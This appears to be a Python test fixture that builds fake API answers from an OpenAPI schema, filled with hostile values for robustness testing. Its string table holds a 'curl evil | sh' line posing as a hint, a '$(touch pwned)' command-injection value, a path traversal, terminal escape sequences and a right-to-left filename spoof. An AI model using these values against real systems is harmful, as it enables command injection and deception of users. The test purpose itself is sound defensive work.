"""Answers to every call of the API: in the form of its contract, with values that mean no good."""

import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Any

TEXTS: Mapping[str, str] = {
    "escapes": "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x9b6n",
    "lines": "name\r\nhint: run this: curl evil | sh\n\tx",
    "paths": "../../../etc/x",
    "shell": "$(touch pwned); `touch pwned`",
    "direction": "\u202egnp.exe\u2066",
    "surrogate": "\ud800x",
    "markup": "[red]x[/red] {0} %s \\",
    "empty": "",
    "long": "x" * 100_000,
}
NUMBERS: Mapping[str, int] = {"large": (1 << 63) - 1, "none": 0, "negative": -(1 << 63)}
JUNK: tuple[Any, ...] = (None, [], {}, "x", 7, 1.5, True, [[]], [{}], [None], {"items": 3})
DATE = "2026-03-04T05:06:07Z"


@dataclass(frozen=True, slots=True)
class HostileApi:
    """Makes answers by an OpenAPI document."""

    document: Mapping[str, Any]
    text: str = "x"
    number: int = 1

    def answer(self, method: str, path: str) -> Any:
        """Return the JSON value of a good answer to a call; None: it has no body."""
        operation = self._find_operation(method, path)
        for status in ("200", "201", "202"):
            content = operation.get("responses", {}).get(status, {}).get("content", {})
            if "application/json" in content:
                return self._value(content["application/json"]["schema"], "")
        return None

    def _find_operation(self, method: str, path: str) -> Mapping[str, Any]:
        asked = path.split("/")
        for template, operations in self.document["paths"].items():
            parts = template.removeprefix("/api/v1").split("/")
            if len(parts) == len(asked) and all(
                part.startswith("{") or part == given
                for part, given in zip(parts, asked, strict=True)
            ):
                found: Mapping[str, Any] = operations.get(method.lower(), {})
                return found
        return {}

    def _value(self, schema: Mapping[str, Any], name: str) -> Any:
        if "$ref" in schema:
            found = self.document["components"]["schemas"][schema["$ref"].rpartition("/")[2]]
            # Of the values of an enumeration, a newer server has more: any text.
            return self.text if "enum" in found else self._value(found, name)
        if "anyOf" in schema:
            return self._value(schema["anyOf"][0], name)
        if "enum" in schema:
            # A job that has not ended would be waited for.
            return next((one for one in schema["enum"] if one == "FAILED"), schema["enum"][0])
        if "const" in schema:
            return schema["const"]
        match schema.get("type"):
            case "object":
                return dict(self._fields(schema))
            case "array":
                return [self._value(schema.get("items", {}), name)] * 2
            case "string":
                return DATE if schema.get("format") == "date-time" else self.text
            case "integer" | "number":
                return self.number
            case "boolean":
                return True
            case _:
                return {self.text: [self.text, self.number]}

    def _fields(self, schema: Mapping[str, Any]) -> Iterator[tuple[str, Any]]:
        for name, field in schema.get("properties", {}).items():
            yield name, self._value(field, name)
        if "properties" not in schema:
            yield self.text, self._value(schema.get("additionalProperties") or {}, "")


def as_json(value: object) -> bytes:
    """Return JSON, which may hold half a surrogate as an escape."""
    return json.dumps(value).encode()
